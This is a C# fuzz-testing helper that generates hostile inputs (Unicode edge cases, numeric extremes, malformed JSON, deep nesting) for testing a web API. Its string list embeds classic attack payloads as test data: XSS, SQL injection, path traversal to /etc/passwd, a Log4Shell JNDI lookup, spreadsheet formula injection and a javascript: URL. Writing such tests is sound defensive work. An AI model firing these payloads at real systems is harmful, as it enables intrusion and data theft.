using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace Vivier.Tests.HostileInput.Fuzz;

/// <summary>
/// The values an attacker types, one family at a time: strings at the edges of Unicode and of
/// size, numbers at the edges of their types, dates at the ends of the calendar, and JSON values
/// of every wrong kind. All drawn from the campaign's seeded generator, so a run can be replayed.
/// </summary>
[System.Diagnostics.CodeAnalysis.SuppressMessage("Security", "CA5394", Justification = "A seeded generator, so that a campaign replays; nothing secret depends on it.")]
public sealed class HostileValues(Random random)
{
    /// <summary>Stands for a lone UTF-16 surrogate, which no .NET string can be serialized with: <see cref="Json"/> writes it as the escape "\ud83d".</summary>
    private const string LoneSurrogate = "⟦lone-surrogate⟧";

    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping, MaxDepth = 1_000 };

    /// <summary>A JSON document as text, lone surrogates included.</summary>
    public static string Json(JsonNode? node) => (node?.ToJsonString(Relaxed) ?? "null").Replace(LoneSurrogate, "\\ud83d", StringComparison.Ordinal);

    /// <summary>A value for a URL: lone surrogates as the percent-encoded bytes of one (invalid UTF-8).</summary>
    public static string Url(string value) => Uri.EscapeDataString(value).Replace(Uri.EscapeDataString(LoneSurrogate), "%ED%A0%BD", StringComparison.Ordinal);

    private static readonly string[] Strings =
    [
        "", " ", "\t", "\r\n", "\u0000", "nul\u0000byte", "\u007f", "del\u007f", "\u202eRTL", "zero\u200bwidth", "e\u0301\u0301\u0301", "İstanbul", "ß", "\u00a0",
        "😀", LoneSurrogate, "x" + LoneSurrogate + "x", "Ω≈ç√", "9999-12-31", "0001-01-01", "2024-02-30", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00+14:00", "24:61", "-1", "0",
        "2147483648", "-2147483649", "1e308", "NaN", "Infinity", "true", "null", "[]", "{}", "<script>alert(1)</script>", "' OR 1=1 --", "../../etc/passwd",
        "%00", "%2e%2e%2f", "{{7*7}}", "${jndi:ldap://x/a}", "C:\\con", "a\\b", "=cmd|' /C calc'!A0", "@SUM(1)", "javascript:alert(1)", "//evil.example.org",
        "ETI-2026-0001", "expert", "workshop", "approval", "hired", "fr:C1", "FR", "xx", "public-finance", "MEAE",
    ];

    private static readonly JsonNode?[] Numbers =
    [
        JsonValue.Create(0), JsonValue.Create(-1), JsonValue.Create(1), JsonValue.Create(int.MaxValue), JsonValue.Create(int.MinValue),
        JsonValue.Create(long.MaxValue), JsonValue.Create(long.MinValue), JsonValue.Create(1e308), JsonValue.Create(-1e308), JsonValue.Create(1.5),
        JsonValue.Create(9007199254740993m), JsonValue.Create(-0.0), JsonValue.Create(1e-300), JsonValue.Create(10_001), JsonValue.Create(65_536),
    ];

    public T Pick<T>(IReadOnlyList<T> values) => values[random.Next(values.Count)];

    public bool Chance(double probability) => random.NextDouble() < probability;

    public int Next(int max) => random.Next(max);

    /// <summary>A hostile string: one of the list, very long, or a mix of the list.</summary>
    public string String() => random.Next(10) switch
    {
        0 => new string(Pick(["x", "é", "😀", "\u0301"]).First(), random.Next(2) == 0 ? 5_000 : 100_000),
        1 => string.Concat(Enumerable.Range(0, 5).Select(_ => Pick(Strings))),
        _ => Pick(Strings),
    };

    /// <summary>A hostile number, or a number-looking value of another type.</summary>
    public JsonNode? Number() => random.Next(8) == 0 ? JsonValue.Create(String()) : Pick(Numbers)?.DeepClone();

    /// <summary>A value of any kind, wrong for most places.</summary>
    public JsonNode? AnyValue() => random.Next(9) switch
    {
        0 => null,
        1 => JsonValue.Create(random.Next(2) == 0),
        2 => Number(),
        3 => new JsonArray(),
        4 => new JsonArray(null, null),
        5 => new JsonObject(),
        6 => Nested(random.Next(2) == 0 ? 70 : 20),
        _ => JsonValue.Create(String()),
    };

    /// <summary>Arrays inside arrays, past the body's depth limit or just under it.</summary>
    public static JsonNode Nested(int depth)
    {
        JsonNode node = new JsonArray();
        for (var i = 0; i < depth; i++)
        {
            node = new JsonArray(node);
        }
        return node;
    }

    /// <summary>A body that is not the JSON it claims to be.</summary>
    public byte[] BrokenJson() => random.Next(10) switch
    {
        0 => [],
        1 => "{\"title\": "u8.ToArray(),
        2 => "{\"a\":1}}trailing"u8.ToArray(),
        3 => [0xEF, 0xBB, 0xBF, (byte)'{', (byte)'}'],
        4 => [(byte)'{', (byte)'"', 0xC3, 0x28, (byte)'"', (byte)':', (byte)'1', (byte)'}'],
        5 => Encoding.UTF8.GetBytes(new string('[', 100_000) + new string(']', 100_000)),
        6 => Encoding.UTF8.GetBytes("{\"a\":\"" + new string('x', 1_100_000) + "\"}"),
        7 => "{\"a\":1,\"a\":2}"u8.ToArray(),
        8 => "null"u8.ToArray(),
        _ => "<?xml version=\"1.0\"?><a/>"u8.ToArray(),
    };
}
